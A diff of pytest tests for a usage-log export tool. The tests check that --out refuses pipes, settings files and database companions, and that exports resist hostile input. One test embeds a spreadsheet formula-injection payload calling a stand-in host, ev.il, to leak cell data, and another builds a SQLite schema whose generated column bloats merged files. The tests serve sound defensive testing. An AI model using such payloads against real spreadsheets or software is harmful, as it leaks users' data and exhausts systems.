@@ -289,7 +289,7 @@ def test_merge_refuses_foreign_files_usage_dbs_and_other_keys(home, tmp_path):
     result = run("export", "merge", str(files[0]), str(other[0]), "--out", str(out))
     assert result.exit_code == 1 and "different pilot.export_key" in result.stderr
     result = run("export", "merge", str(files[0]), "--out", str(files[0]))
-    assert result.exit_code == 1 and "both an input and --out" in result.stderr
+    assert result.exit_code == 2 and "is one of the files to merge; choose another file name" in result.stderr
 
 
 def test_rows_are_streamed_not_held(tmp_path):
@@ -413,6 +413,16 @@ def test_merge_refuses_a_recursive_view_at_once_and_leaves_no_temp_file(home, tm
         ("UPDATE sessions SET ended_at = '0000-01-01T00:00:00.000Z' WHERE rowid = 1", "row 1 of its sessions table"),
         ("UPDATE sessions SET duration_s = 'long' WHERE rowid = 1", "text where a number belongs"),
         ("UPDATE events SET kind = x'00ff' WHERE rowid = 1", "row 1 of its events table"),
+        # A 53 kB file once merged into 4 GB: its label was computed, 200 MB a row (here 1 kB).
+        (
+            "CREATE TABLE e2 AS SELECT * FROM events; DROP TABLE events;"
+            " CREATE TABLE events(device TEXT NOT NULL, src_id INTEGER NOT NULL, at TEXT NOT NULL, kind TEXT NOT NULL,"
+            " card TEXT, action_type TEXT, outcome TEXT, detail TEXT, uid TEXT,"
+            " label TEXT GENERATED ALWAYS AS (printf('%.*c', 1000, 'x')) VIRTUAL);"
+            " INSERT INTO events(device, src_id, at, kind, card, action_type, outcome, detail, uid)"
+            " SELECT device, src_id, at, kind, card, action_type, outcome, detail, uid FROM e2; DROP TABLE e2",
+            "its events table has columns computed from a formula (label)",
+        ),
     ],
 )
 def test_merge_refuses_tables_and_rows_no_export_has(home, tmp_path, sql, words):
@@ -480,3 +490,132 @@ def test_merge_stopped_by_a_signal_removes_its_temp_file(tmp_path, signame):
     _, err = proc.communicate(timeout=30)
     assert proc.returncode != 0 and "Traceback" not in err
     assert leftovers(out_dir) == [] and not (out_dir / "PILOT.sqlite").exists()  # was: a hidden .PILOT.sqlite.*.tmp
+
+
+# --- where an export may be written, and what a spreadsheet makes of it (attack2) ----------------
+
+
+def _out_refusals(home: Path, tmp_path: Path, target: Path) -> list[tuple[list[str], object]]:
+    """Every command with an --out, pointed at ``target``."""
+    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
+    commands = [
+        ["export", "usage", "--format", "csv", "--out", str(target)],
+        ["export", "usage", "--format", "sqlite", "--out", str(target)],
+        ["export", "answers", "--format", "json", "--out", str(target)],
+        ["export", "merge", *map(str, files), "--out", str(target)],
+        ["report", str(files[0]), "--out", str(target)],
+        ["cards", "print", "--out", str(target)],
+        ["cards", "pack", "--out", str(target)],
+    ]
+    return [(args, run(*args)) for args in commands]
+
+
+def test_out_never_replaces_a_device_or_a_pipe(home, tmp_path):
+    """As root, `--out /dev/full` replaced the system's /dev/full with a plain file (tried with a pipe here)."""
+    import os
+    import stat
+
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    for args, result in _out_refusals(home, tmp_path, pipe):
+        assert result.exit_code == 2 and "is not a plain file" in result.stderr, (args, result.stderr)
+        assert stat.S_ISFIFO(pipe.lstat().st_mode), args
+    from klick.atomic import NotAPlainFile, write_atomic
+
+    with pytest.raises(NotAPlainFile):
+        write_atomic(pipe, b"x")
+    assert stat.S_ISFIFO(pipe.lstat().st_mode)
+
+
+def test_out_in_a_missing_folder_is_refused_and_makes_no_folder(home, tmp_path):
+    target = tmp_path / "no" / "such" / "folder" / "out.sqlite"
+    for args, result in _out_refusals(home, tmp_path, target):
+        assert result.exit_code == 2 and f"the folder {target.parent} does not exist" in result.stderr, (args, result.stderr)
+    assert not (tmp_path / "no").exists()
+
+
+def test_out_never_replaces_the_settings_the_card_file_or_the_questionnaire(home, tmp_path):
+    (home / "questionnaire.yaml").write_text((REPO / "config" / "questionnaire.yaml").read_text())
+    for name, words in (
+        ("klick.yaml", "Klick's settings file"),
+        ("cards.yaml", "the card file"),
+        ("questionnaire.yaml", "the questionnaire"),
+    ):
+        before = (home / name).read_bytes()
+        result = run("export", "usage", "--format", "sqlite", "--out", str(home / name))
+        assert result.exit_code == 2 and f"is {words}; choose another file name" in result.stderr, result.stderr
+        assert (home / name).read_bytes() == before
+
+
+def test_out_never_replaces_the_wal_of_the_database_being_exported(home, tmp_path):
+    """The launcher's newest events live in usage.db-wal: replacing it lost them."""
+    source = home / "usage.db"
+    writer = UsageLog.open(source, device="hbg-07", enrolled=True, retention_days=365, now=lambda: T0 + 10 * 86400)
+    writer.record("card_present", uid=ANNA, action_type="video_call")
+    assert writer.flush()
+    wal = home / "usage.db-wal"
+    assert wal.stat().st_size > 0
+    before = digest(source)
+    for companion in ("usage.db-wal", "usage.db-shm"):
+        result = run("export", "usage", "--format", "sqlite", "--out", str(home / companion))
+        assert result.exit_code == 2 and "is part of the database being exported" in result.stderr, result.stderr
+    assert digest(source) == before
+    writer.close()
+    files = export_device(home, source, tmp_path, "hbg-07")
+    result = run("report", str(files[0]), "--out", str(files[0]) + "-journal")
+    assert result.exit_code == 2 and "is part of the file the report is made from" in result.stderr
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_a_formula_are_written_as_text(home):
+    evil = '=HYPERLINK("http://ev.il/?"&A1,"Hej")'  # a label is at most 40 letters
+    (home / "cards.yaml").write_text(CARDS.replace("Anna Andersson", f"'{evil}'"))
+    result = run("export", "usage", "--format", "csv", "--include-personal")
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    labels = {r["label"] for r in rows if r["uid"] == ANNA}
+    assert labels == {"'" + evil}
+    assert all(not r["label"].startswith(("=", "+", "-", "@")) for r in rows)
+    assert {r["src_id"] for r in rows} >= {"1", "2"}  # numbers as they are
+    from klick.export import spreadsheet_safe
+
+    for cell in ("=1+1", "+46701234567", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
+        assert spreadsheet_safe(cell) == "'" + cell
+    for cell in ("Anna", "1", "", None, 5, -3.5, "a=b"):
+        assert spreadsheet_safe(cell) == cell
+    # JSON keeps the text exactly: it is read by programs, not spreadsheets.
+    result = run("export", "usage", "--format", "json", "--include-personal")
+    assert evil in {r["label"] for r in json.loads(result.stdout)}
+
+
+def test_merge_and_report_refuse_an_export_with_another_databases_wal_beside_it(home, tmp_path):
+    """SQLite reads a -wal beside a file whatever wrote it: the export read as another database."""
+    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
+    other = sqlite3.connect(tmp_path / "other.db")
+    other.execute("PRAGMA journal_mode=wal")
+    other.execute("PRAGMA wal_autocheckpoint=0")
+    other.execute("CREATE TABLE x(y)")
+    other.commit()
+    (tmp_path / (files[0].name + "-wal")).write_bytes((tmp_path / "other.db-wal").read_bytes())
+    other.close()
+    before = files[0].read_bytes()
+    for args in (
+        ["export", "merge", str(files[0]), "--out", str(tmp_path / "P.sqlite")],
+        ["report", str(files[0]), "--out", str(tmp_path / "r.html")],
+    ):
+        result = run(*args)
+        assert result.exit_code == 1, result.stderr
+        assert f"{files[0].name}-wal beside it belongs to another database" in result.stderr, result.stderr
+    assert files[0].read_bytes() == before and not (tmp_path / "P.sqlite").exists()
+
+
+def test_an_export_read_by_a_program_that_stops_early_ends_quietly(home):
+    """`klick export usage | head -1` said "Something went wrong on the disk: Broken pipe."."""
+    import subprocess
+
+    from tests.conftest import KLICK
+
+    proc = subprocess.Popen([KLICK, "export", "usage", "--format", "csv"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert proc.stdout is not None and proc.stderr is not None
+    proc.stdout.close()  # the reader is gone before the first line is written
+    err = proc.stderr.read()
+    assert proc.wait(timeout=60) == 1 and err == b"", err
